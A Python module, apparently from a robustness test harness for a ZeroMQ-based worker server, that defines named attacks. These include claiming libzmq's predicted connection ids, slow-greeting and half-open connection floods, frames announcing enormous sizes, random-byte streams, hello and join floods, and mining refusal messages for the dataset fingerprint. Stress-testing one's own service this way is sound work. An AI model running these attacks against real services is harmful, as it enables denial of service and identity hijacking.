"""The attacks, by name. Each is a coroutine that runs until it is cancelled."""

import asyncio
import contextlib
import dataclasses
import random

import wire
import zmtp
from peers import CHUNK, Closed, Peer, crowd

NAMED = {}


@dataclasses.dataclass
class Attack:
    """One attack: a coroutine on a site with a number of connections, and its purpose."""

    run: object
    connections: int
    pause: float  # seconds before a connection that has ended is opened again
    purpose: str


def attack(name, connections, pause=0.0):
    def add(function):
        purpose = " ".join(function.__doc__.split())
        NAMED[name] = Attack(function, connections, pause, purpose)
        return function

    return add


# libzmq's own ids for ordinary connections: a zero byte and a counter that begins here.
FIRST_ID = 0x6B8B4567


def predicted(number):
    return b"\0" + ((FIRST_ID + number) & 0xFFFFFFFF).to_bytes(4, "big")


@attack("identity", 64, pause=0.1)
async def identity(site, count):
    """Claims the ids that the server's socket would generate next, through a READY of ZMTP 3 and
    through ZMTP 1, then opens three ordinary connections; again and again."""
    begin, held = 0, []
    while True:
        for number in range(begin, begin + count):
            held.append(await claim(site, predicted(number), number % 4 == 3))
        for _ in range(3):
            held.append(await claim(site, b"", False))
        begin += count
        while len(held) > 16 * count:
            held.pop(0).close()
        await asyncio.sleep(site.pause)


async def claim(site, identity, isOld):
    """Opens a connection with an identity, and leaves it open."""
    peer = Peer(site)
    try:
        await peer.open()
        if isOld:
            await peer.send(zmtp.first_version(identity))
        else:
            await asyncio.wait_for(peer.shake(identity), 2)
    except Closed:
        peer.close()
        await asyncio.sleep(0.01)
    except asyncio.TimeoutError:
        site.tally.note("no READY within 2 s")
        peer.close()
    return peer


@attack("endless-frames", 2)
async def endless_frames(site, count):
    """Frames of a message that never ends: of 256 KiB on one connection, of one byte on the
    other."""

    async def behave(peer, number):
        body = bytes(CHUNK) if number % 2 == 0 else b"\1"
        frame = zmtp.frame(body, zmtp.MORE)
        await peer.shake()
        while True:
            await peer.send(frame * max(1, CHUNK // len(frame)))

    await crowd(site, count, behave)


@attack("half-open", 10_000, pause=1.0)
async def half_open(site, count):
    """TCP connections that send nothing, or half a greeting."""

    async def behave(peer, number):
        if number % 2:
            await peer.send(zmtp.greeting()[:32])
        await peer.stay()

    await crowd(site, count, behave)


@attack("mute", 2000, pause=1.0)
async def mute(site, count):
    """Completed handshakes without a message; they answer PING. With CURVE: a greeting alone, half
    a HELLO, a HELLO that is not valid."""

    async def behave(peer, number):
        if site.mechanism == b"CURVE":
            await peer.greet()
            await peer.send(zmtp.curve_hello()[:(0, 100, 206)[number % 3]])
        else:
            await peer.shake()
        await peer.stay()

    await crowd(site, count, behave)


@attack("http", 8)
async def http(site, count):
    """HTTP requests, one after the other on each connection."""
    request = (
        "GET /metrics HTTP/1.1\r\nHost: localhost\r\nUser-Agent: curl/8.0\r\n"
        "Accept: */*\r\n\r\n").encode()

    async def behave(peer, number):
        for _ in range(1000):
            await peer.send(request)
            await asyncio.sleep(0.01)

    await crowd(site, count, behave)


def stranger(dataset="something else"):
    """A valid hello of a worker that is not known."""
    return wire.hello(f"stranger-{random.getrandbits(32):x}", random.getrandbits(64), dataset)


@attack("hellos", 8)
async def hellos(site, count):
    """A flood of valid hellos of strangers, as fast as the server reads them."""
    batch = b"".join(zmtp.message(stranger()) for _ in range(256))

    async def behave(peer, number):
        await peer.shake()
        async with peer.reading() as reader:
            while not reader.done():
                await peer.send(batch)
                site.tally.counts["messages_sent"] += 256

    await crowd(site, count, behave)


@attack("joins", 4)
async def joins(site, count):
    """Workers that join, if a refusal discloses the dataset, and leave at once, as fast as the
    server reads their messages."""
    found = []

    async def behave(peer, number):
        await peer.shake()
        if site.mechanism == b"NULL":
            found[:] = found or [await disclosed(peer)]
        farewell = wire.message(wire.FAREWELL, 2, wire.text("done"), 1)
        batch = b"".join(
            zmtp.message(stranger(*found)) + zmtp.message(farewell) for _ in range(128))
        async with peer.reading() as reader:
            while not reader.done():
                await peer.send(batch)
                site.tally.counts["messages_sent"] += 256

    await crowd(site, count, behave)


@attack("strangers", 600, pause=1.0)
async def strangers(site, count):
    """Workers that join, if a refusal or a welcome discloses the dataset, and then do nothing but
    send heartbeats."""
    found = []

    async def behave(peer, number):
        await peer.shake()
        if site.mechanism == b"NULL":
            found[:] = found or [await disclosed(peer)]
        await peer.send(zmtp.message(stranger(*found)))
        async with peer.reading() as reader:
            await idle(peer, reader)

    await crowd(site, count, behave)


async def disclosed(peer):
    """The fingerprint of the dataset, from the refusal of a stranger."""
    await peer.send(zmtp.message(stranger()))
    while True:
        for _, body in await peer.arrived():
            if wire.kind_and_number(body)[0] == wire.REFUSAL:
                words = wire.refusal(body)[1]
                _, _, rest = words.partition("the server's dataset is ")
                return rest.partition(", the worker's is")[0]


async def idle(peer, reader):
    """Sends ready, then heartbeats without progress."""
    number = 2
    while not reader.done():
        if peer.number:
            kind, body = (wire.READY, b"") if number == 2 else (wire.HEARTBEAT, bytes(8))
            await peer.send(zmtp.message(wire.message(kind, number, body, peer.number)))
            number += 1
        await asyncio.sleep(1 if number > 2 else 0.05)


@attack("random", 8)
async def random_bytes(site, count):
    """Random bytes at full rate: from the start, after a greeting, or after a handshake."""
    pool = random.Random(1).randbytes(1 << 24)

    async def behave(peer, number):
        if number % 4 == 1:
            await peer.send(zmtp.greeting())
        elif number % 4 == 2:
            await peer.send(zmtp.greeting() + zmtp.ready())
        elif number % 4 == 3:
            await peer.shake()
        while True:
            start = random.randrange(len(pool) - CHUNK)
            await peer.send(pool[start:start + random.randint(1, CHUNK)])

    await crowd(site, count, behave)


@attack("large-frames", 16)
async def large_frames(site, count):
    """Frames and commands that announce 2^31 bytes and more, before and after the handshake,
    followed by a few of them."""
    sizes = [1 << 31, (1 << 32) - 1, 1 << 32, (1 << 63) - 1, 1 << 63, (1 << 64) - 1]
    flags = [0, zmtp.MORE, zmtp.COMMAND]

    async def behave(peer, number):
        if number % 4:
            await peer.shake()
        else:
            await peer.greet()
        await peer.send(zmtp.announced(random.choice(sizes), random.choice(flags)) + bytes(4096))
        try:
            await asyncio.wait_for(peer.stay(), 10)
        except asyncio.TimeoutError:
            site.tally.note("still open 10 s after an announcement")

    await crowd(site, count, behave)


@attack("resets", 8, pause=0.1)
async def resets(site, count):
    """Messages and PINGs until the server reads no more, then a reset of the connection, so that
    the server's socket finds an error on a connection that it has stopped to read."""
    batch = (zmtp.message(b"x") * 3 + zmtp.command(b"PING", bytes(2))) * 4096

    async def flood(peer):
        while True:
            await peer.send(batch)

    async def behave(peer, number):
        await peer.shake()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(flood(peer), random.uniform(0.05, 1.5))
        site.tally.note("resets")
        peer.close()

    await crowd(site, count, behave)


@attack("slow-greeting", 500, pause=1.0)
async def slow_greeting(site, count):
    """Connections that send one byte of the greeting each second."""

    async def behave(peer, number):
        for byte in zmtp.greeting():
            await peer.send(bytes([byte]))
            await asyncio.sleep(1)
        await peer.stay()

    await crowd(site, count, behave)
